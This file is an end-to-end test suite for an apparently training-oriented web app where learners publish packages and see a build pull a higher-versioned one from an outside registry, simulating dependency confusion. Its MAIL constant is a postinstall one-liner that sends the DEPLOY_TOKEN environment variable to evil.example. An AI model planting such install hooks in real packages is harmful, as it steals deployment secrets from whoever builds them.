import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { HostVisit } from '#contract/training/hosting.ts'
import type { Parcel } from '#contract/training/parcels.ts'
import { CONTEXT_OPTIONS, setFirstAppearance, violationsInAllAppearances } from './testing/appearances.ts'
import { openStage, type Stage } from './testing/stage.ts'

const MAIL = "require('https').get('https://evil.example/?' + process.env.DEPLOY_TOKEN)"

describe('parcels and the robot that installs them', () => {
  let stage: Stage
  beforeAll(async () => {
    stage = await openStage()
  })
  afterAll(() => stage.close())

  const parcels = async (shop: string): Promise<Parcel[]> =>
    (await stage.application.visitor(shop).get('/training/parcels')).json()

  it('a parcel is written, kept while it is typed, published, and installed; all of it is accessible', async () => {
    const shop = stage.application.visitor('parcels')
    await shop.put('/training/hosting', { host: 'evil.example', path: '/', body: 'Thanks!' })
    const learner = await stage.nextLearner('parcels', { viewport: CONTEXT_OPTIONS.viewport })
    const { page, open, problems } = learner
    await setFirstAppearance(learner)
    await open('/#/other-site?tab=parcels')
    await page.getByText('You have not published anything yet').waitFor()
    expect(await violationsInAllAppearances(learner)).toEqual([])
    await setFirstAppearance(learner)

    await page.fill('#parcelName', 'crate-utils')
    await page.fill('#parcelVersion', '99.0.0')
    await page.locator('.cm-content').nth(1).click()
    await page.keyboard.insertText(MAIL)
    await page.reload()
    expect(await page.inputValue('#parcelName')).toBe('crate-utils')
    expect(await parcels('parcels')).toEqual([])
    await page.getByRole('button', { name: 'Clear all' }).click()
    expect(await page.inputValue('#parcelName')).toBe('')
    await page.getByRole('button', { name: 'Undo' }).click()
    expect(await page.inputValue('#parcelName')).toBe('crate-utils')
    await page.getByRole('tab', { name: 'Packages' }).waitFor()
    expect(await page.getByText('Ctrl+Enter (⌘+Enter on a Mac): Publish.').count()).toBe(2)
    await page.locator('.cm-content').nth(1).click()
    await page.keyboard.press('Control+Enter')
    await page.getByRole('heading', { name: 'Change this package' }).waitFor()
    expect(await parcels('parcels')).toEqual([
      {
        name: 'crate-utils',
        version: '99.0.0',
        main: '',
        scripts: { postinstall: MAIL },
        dependencies: {},
      },
    ])
    await page.getByText('1 of 20 packages').waitFor()
    expect(await violationsInAllAppearances(learner)).toEqual([])

    await open('/landing/build')
    await page.getByText('crate-utils@1.4.2 from crate.internal').waitFor()
    await page.getByRole('button', { name: 'Build it again' }).click()
    await page.getByText('crate-utils@99.0.0 from parcel-shed.example').waitFor()
    expect(new URL(page.url()).pathname).toBe('/landing/build')
    const visits: HostVisit[] = (await shop.get('/training/hosting/log')).json()
    expect(visits.map(({ url }) => url)).toEqual([
      expect.stringMatching(/evil\.example\/\?lantern-[0-9a-f]{24}$/),
    ])
    expect(problems).toEqual([])
  })

  it('says why a parcel is refused, and withdraws one, on a phone without a mouse', async () => {
    const { page, open, problems } = await stage.nextLearner('parcels-phone', {
      viewport: { width: 360, height: 740 },
    })
    await open('/#/other-site?tab=parcels')
    await page.fill('#parcelName', 'peel-icons')
    await page.locator('#parcelVersion').focus()
    await page.keyboard.press('Enter')
    await page.getByText('This name belongs to somebody else already.').waitFor()
    await page.fill('#parcelName', 'pip')
    await page.getByLabel('Code of the package (index.js)').fill('exports.pip = 1')
    await page.locator('#publishParcel').focus()
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'Change this package' }).waitFor()
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360)
    await page.locator('#withdrawParcel').focus()
    await page.keyboard.press('Enter')
    await page.getByRole('heading', { name: 'A new package' }).waitFor()
    expect(await parcels('parcels-phone')).toEqual([])
    await page.getByRole('button', { name: 'Undo' }).click()
    await expect.poll(async () => (await parcels('parcels-phone')).map(({ name }) => name)).toEqual(['pip'])
    await open('/landing/build')
    expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(360)
    expect(problems).toEqual([])
  })
})
